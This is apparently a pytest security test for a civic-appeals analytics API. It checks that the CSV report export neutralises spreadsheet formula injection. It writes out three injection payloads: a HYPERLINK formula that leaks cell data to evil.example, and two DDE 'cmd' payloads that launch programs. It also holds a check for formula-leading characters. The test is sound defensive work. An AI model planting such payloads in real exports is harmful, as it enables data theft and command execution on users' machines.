"""Attack: formula names planted in imported appeals reach the ЦУР CSV the API serves as text."""

from __future__ import annotations

import csv
import io

import pytest
from analytics_jobs import settled
from conftest import app_with_imported, auth

TERRITORY = '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")'
DEPARTMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
CATEGORY = "+cmd|' /C notepad'!A0"


@pytest.fixture(scope="module")
def client(spb_slice, bundle_dirs, bundle_loader, tmp_path_factory):
    """The app over a store of 2021 slice appeals, a third of them with planted formula names."""
    from fastapi.testclient import TestClient

    from mcu_nlp.services.keys import create_key

    rows = spb_slice[(spb_slice["created_at"] >= "2021-01-01")
                     & (spb_slice["created_at"] < "2021-04-01")].iloc[::3].copy()
    planted = rows.index[::3]
    rows.loc[planted, "district"] = TERRITORY
    rows.loc[planted, "department"] = DEPARTMENT
    rows.loc[planted, "category"] = CATEGORY
    app, store, _, summary = app_with_imported(tmp_path_factory.mktemp("attack_exports"), rows,
                                               bundle_dirs, bundle_loader)
    assert summary.stored > 100
    key = create_key(store, role="analyst")
    with TestClient(app) as test_client:
        test_client.keys = {"analyst": key}
        yield test_client
    store.dispose()


def test_cur_export_csv_serves_planted_formulas_as_text(client) -> None:
    response = settled(client, "get",
                       "/v1/reports/cur-export?period=quarter&end=2021-03-31&format=csv",
                       headers=auth(client, "analyst"))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    cells = [cell for row in rows for cell in row]
    formulas = [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))
                or (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit())]
    assert not formulas
    keys = {row[4] for row in rows[1:]}
    assert "'" + TERRITORY in keys
    assert "'" + DEPARTMENT in keys
    assert "'" + CATEGORY in keys
    for row in rows[1:]:  # figures stay numbers: none is quoted
        assert row[6] == "" or float(row[6]) == float(row[6]), row
    document = settled(client, "get", "/v1/reports/cur-export?period=quarter&end=2021-03-31",
                       headers=auth(client, "analyst")).json()
    assert TERRITORY in {t["territory"] for t in document["by_territory"]}  # JSON is unchanged
